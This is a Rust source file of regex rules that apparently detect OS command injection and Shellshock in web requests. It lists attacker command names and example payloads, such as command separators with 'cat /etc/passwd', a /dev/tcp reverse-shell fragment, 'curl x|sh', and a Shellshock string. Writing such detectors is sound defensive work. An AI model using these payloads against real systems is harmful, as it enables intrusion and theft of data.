//! Operating-system commands.

use super::{EVERYWHERE, NOT_PATH, PATH_AND_VALUES, Rule, VALUES};
use crate::enrich::attack::class::Class::{Cmdi, Shellshock};
use crate::enrich::attack::views::View::{Raw, Shell};

/// Commands that an attacker runs first: who am I, where am I, fetch, write, wait.
macro_rules! command {
    () => {
        r"(?:cat|ls|id|whoami|uname|wget|curl|ping|nc|ncat|netcat|bash|sh|zsh|ksh|csh|dash|python[\d.]*|perl|ruby|php\d?|nslookup|dig|ifconfig|ipconfig|netstat|pwd|rm|cp|mv|ps|chmod|chown|echo|printf|sleep|dir|cmd|powershell|pwsh|certutil|bitsadmin|tftp|telnet|ssh|scp|tac|nl|egrep|grep|awk|gawk|sed|printenv|killall|systeminfo|tasklist|phpinfo|passthru|base64|xxd|xargs|busybox|lwp-download|gcc|sendmail|wmic|getent|crontab|nohup|mknod|mkfifo|socat|tee|rundll32|mshta|regsvr32|cscript|sudo|lsof|iptables|useradd|openssl|mkdir|arp|unzip|ifstat|gdb|strace|ltrace|htop|vim|visudo|lastlog|aptitude|apt-get|irb|c[89]9|cpulimit|setsid|stdbuf|nsenter|chroot|ssh-copy-id|kubectl|docker|pip3?|pipx|npm|cmd\.exe)"
    };
}

/// Commands whose names are words: they need arguments that words do not have.
macro_rules! word {
    () => {
        r"(?:net|ftp|head|tail|more|less|sort|env|export|set|kill|reboot|shutdown|touch|hostname|route|system|exec|eval|java|node|host|find|locate|which|w|who|last|timeout|type|copy|del|reg|su|true|false|uptime|df|free|ip|rename|expr|date|strings|dd|tar|zip|vi|ed|finger|time|command|builtin|source)"
    };
}

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "separator-command",
        class: Cmdi,
        weight: 6,
        view: Shell,
        places: VALUES,
        pattern: concat!(
            r"(?:[;|&`\n\r]|\$\(|&&|\|\||<\(|>\()[ +]*[({!]?[ +]*(?:/(?:usr/(?:local/)?)?s?bin/)?",
            command!(),
            r"(?: +[-/$|;&<>.\d~%*?{]| *$| *[;|&`<>)]| +\w+[/.:\\]|\.exe\b|\+[-/\w]| +\w+ *(?:[;|&`<>)]|$))|(?:[;|&`\n\r]|\$\(|&&|\|\|)[ +]*(?:/(?:usr/(?:local/)?)?s?bin/)?",
            word!(),
            r"(?: +-{1,2}[a-z]| +[/$|;&<>~%*{]| *[|`<>]|\.exe\b|;$| *$)"
        ),
        hits: &["x; cat /etc/passwd", "|id", "a && whoami", "`id`", "1|ping -c 4 127.0.0.1"],
        misses: &["cats; dogs and more", "q&a", "this | that"],
    },
    Rule {
        id: "command-line",
        class: Cmdi,
        weight: 6,
        view: Shell,
        places: VALUES,
        pattern: r"^ *[+(]? *(?:cat|ls|wget|curl|ping|ping\.exe|nc|ncat|bash|sh|python|python2|python3|perl|php|ruby|node|nslookup|dig|ifconfig|ipconfig|netstat|ps|rm|cp|mv|chmod|chown|echo|dir|net|cmd|powershell|certutil|tftp|telnet|head|tail|find|type|netsh|copy|del|reg|uname|which|sysinfo|nohup|sudo|env|timeout|sleep)[ +][ +]*(?:-{1,2}\w|/\w|[;|&`<>$]|\.{1,2}/|\d+\.\d+\.\d+\.\d+|https?:|[a-z]:|user\b|localgroup|view\b|firewall\b|%\w+%|\d+ *[;|&])",
        hits: &["cat /etc/x", "ping -n 3 10.0.0.1", "wget http://x"],
        misses: &["cat food", "find a job"],
    },
    Rule {
        id: "bare-command",
        class: Cmdi,
        weight: 5,
        view: Shell,
        places: VALUES,
        pattern: r"^ *(?:whoami|uname -\w+|netstat -\w+|ls -\w+|cat /\S+|systeminfo|sysinfo|phpinfo\(\)|/bin/\w+|/usr/bin/\w+|net user|nslookup \S+|(?:rm|mv|cp|chmod \S+) \S+\.(?:php|sh|jsp|aspx?|txt|log)) *;? *$|^ *(?:id|pwd|ls|dir|ps|w) *[;|&`]|^`\w+`$|[;|&] *(?:id|pwd|ls|dir|ps) *[;|&]? *$",
        hits: &["whoami", "/usr/bin/id", "id|", "`id`"],
        misses: &["id", "ls", "identity"],
    },
    Rule {
        id: "bare-word",
        class: Cmdi,
        weight: 3,
        view: Shell,
        places: VALUES,
        pattern: r"^ *(?:ifconfig|ipconfig|uname|netstat|tasklist|systeminfo|sysinfo|nslookup|printenv|getmac) *;? *$",
        hits: &["ipconfig", "uname"],
        misses: &["uname it"],
    },
    Rule {
        id: "command-wrapper",
        class: Cmdi,
        weight: 5,
        view: Shell,
        places: VALUES,
        // A command that runs another one, and one that no sentence goes on with.
        pattern: r"^ *(?:time|nohup|strace|ltrace|sudo|env|setsid|nice|stdbuf|xargs|exec|busybox|timeout +\S+|cpulimit|flock)(?: +-{1,2}\S+(?: +\d+)?| +/| +\d+)* +(?:whoami|uname|ifconfig|ipconfig|netstat|wget|curl|bash|ksh|zsh|chmod|chown|nslookup|printenv|perl|python[\d.]*|ls -\w+|cat /\S+|id) *(?:$|[-;|&<>/]|\w+\.\w+|https?:)",
        hits: &["nohup wget h.example", "sudo chmod", "flock -u / whoami", "timeout 5 bash"],
        misses: &["time id card", "sudo make me a sandwich", "nice curls"],
    },
    Rule {
        id: "shell-alias",
        class: Cmdi,
        weight: 5,
        view: Shell,
        places: VALUES,
        pattern: r"(?:^|[;|&`\n] *)(?:un)?alias +(?:[-+]\w+\+? +)?[\w.-]{1,24}=[^ =]|^ *alias +[^ =]{1,24}=.*[&;|]",
        hits: &["alias q=uname", "x;alias -g l='ls -l'", "alias 'w'=wget&w"],
        misses: &["alias = name", "the alias x=1 of y", "alias smith"],
    },
    Rule {
        id: "brace-command",
        class: Cmdi,
        weight: 5,
        view: Shell,
        places: VALUES,
        // A shell writes blanks for the commas. JSON has colons in its braces.
        pattern: r"(?:^|[;|&`\n=]) *\{,?[a-z/]{1,12},[^{}: ]*[-/?*$#][^{}: ]*\}|^ *\{,[a-z/$][^{}: ]*\}$|^[a-z]{0,6}\{[a-z]{1,6},-?[a-z]{0,6}\}[a-z]{1,6}$|\{/[\w/]{0,12}[?*][\w/?*]*,[^{}: ]*\}",
        hits: &["{head,/e*/h*}", "{,uname,-a}", "w{ho,}ami", "{,hostname}", "{/?in/l?,}"],
        misses: &["{id,name}", "{\"a\":1,\"b\":\"/x\"}", "{1,2}", "a{b,c}"],
    },
    Rule {
        id: "bin-path",
        class: Cmdi,
        weight: 6,
        view: Shell,
        places: NOT_PATH,
        pattern: r"(?:^|[ ;|&`(=/{<])/(?:usr/(?:local/)?)?s?bin/[\w?*.\[]|(?:^|[ ;|&`(/])/(?:[\w?*]*[?*]+[\w?*]*)/[\w?*]*[?*][\w?*]*(?: |/|$)|\b(?:c:)?[/\\]windows[/\\]+system32[/\\]+\w+\.exe",
        hits: &["/bin/ls", "x /usr/bin/id", "/b?n/c?t /e??/p?sswd"],
        misses: &["/cabin/1", "/binary"],
    },
    Rule {
        id: "command-idiom",
        class: Cmdi,
        weight: 6,
        view: Shell,
        places: EVERYWHERE,
        pattern: r"\b(?:cmd(?:\.exe)? *\+?/[ckr]\b|powershell(?:\.exe)? +(?:-|\w+)|/dev/(?:tcp|udp)/|system32[/\\]+cmd|(?:wget|curl|fetch|lynx|lwp-download)[ +]+(?:-\S+[ +]+)*(?:https?|ftp)://|chmod[ +]+(?:\+x|[0-7]{3,4}\b|\+?[rwx]{1,3}\b|-r\b)|nc[ +]+-[a-z]*e|ncat[ +]+-|bash[ +]+-[ic]|sh[ +]+-c|xp_cmdshell|rm[ +]+-[rf]{1,2}\b|certutil(?:\.exe)? +-|mkfifo +/|mknod +/|base64 +-(?:d|-decode)|cat +/(?:etc|proc|var)/|ping[ +]+-[cn] *\d|uname[ +]+-a|net[ +]+(?:user|localgroup|share) +\S+|type c:|dir c:|echo[ +]+\S+ *>+ *\S|/etc/passwd *[;|&`)]|invoke-(?:expression|webrequest)|downloadstring|python[\d.]* +-c|perl +-e|php +-r|ruby +-e)",
        hits: &["cmd.exe /c dir", "wget http://x/y", "bash -i >& /dev/tcp/1/2", "chmod +x a"],
        misses: &["curl your hair", "cmd line", "a bash script"],
    },
    Rule {
        id: "shell-expansion",
        class: Cmdi,
        weight: 5,
        view: Raw,
        places: NOT_PATH,
        pattern: r"`[^`]{2,200}`|\$\([^)]+\)|\$\{?ifs\b|\$\{ifs|\{(?:cat|ls|id|curl|wget|ping|echo|nslookup|sleep)\s*,|\$\{\w+:\d|\$\{(?:path|home|pwd|shell|hosttype)\b|\$(?:path|home|shell|pwd|ifs|user|0)\b\s*[|;>)]|<\([^)]{2,100}\)|\$\(\(|\$'\\|%(?:comspec|systemroot|programfiles|pathext|appdata|os)(?::~[\d,-]+)?%|\^[a-z]\^[a-z]|(?:^|[;|&\s])[a-z]{1,3}(?:''|\x22\x22)[a-z]+\s|\$@\w|\$\*\w|\\[a-z]\\[a-z]\\[a-z]",
        hits: &["$(id)", "`uname -a`", "cat$ifs/etc", "{cat,/x}", "%comspec%"],
        misses: &["price $(usd", "a `b"],
    },
    Rule {
        id: "path-command",
        class: Cmdi,
        weight: 6,
        view: Shell,
        places: EVERYWHERE,
        pattern: r"(?:[;|&`]|\$\()[ +]*(?:/(?:usr/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|ping|nc|bash|sh|python\d?|perl|ifconfig|netstat|echo|sleep|nslookup)(?:[ +]+-\w|[ +]+/[\w?*.]|[ +]+etc/| *[;|`] *[a-z/|;`&$]| *[;|`]$|[ +]+https?:|[ +]+\d+\.\d+)|=`\w+`|\$0<<<|\$\(\(",
        hits: &["/x&& ls /etc", "/a;id;", "--exec=`id`"],
        misses: &["/a;id=4", "/b|c"],
    },
    Rule {
        id: "redirect-command",
        class: Cmdi,
        weight: 5,
        view: Shell,
        places: PATH_AND_VALUES,
        pattern: r"[12]?>&[12]\b|2>/dev/null|[<>] */(?:etc|dev|tmp|proc|var)/|[;|&] *(?:rm|mv|cp|cat|echo|curl|wget) +\S+ *(?:>|\||;|&&)|\| *(?:sh|bash|base64|xxd|tee|perl|python\d?|nc)\b|> *\S+\.(?:php|asp|aspx|jsp|sh|txt|bat)\b",
        hits: &["x 2>&1", "id>/tmp/x", "curl x|sh"],
        misses: &["a>b", "2 > 1"],
    },
    Rule {
        id: "shellshock",
        class: Shellshock,
        weight: 8,
        view: Raw,
        places: EVERYWHERE,
        pattern: r"\(\s*\)\s*\{\s*(?::|_|[^}]*)\s*;?\s*\}\s*[;>]|^\s*\(\)\s*\{|\(\)\s*\{\s*_;\s*\}\s*>_\[",
        hits: &["() { :;}; /bin/bash -c 'id'", "() { _; } >_[$($())] { id; }"],
        misses: &["function() { return 1 }", "foo()"],
    },
];
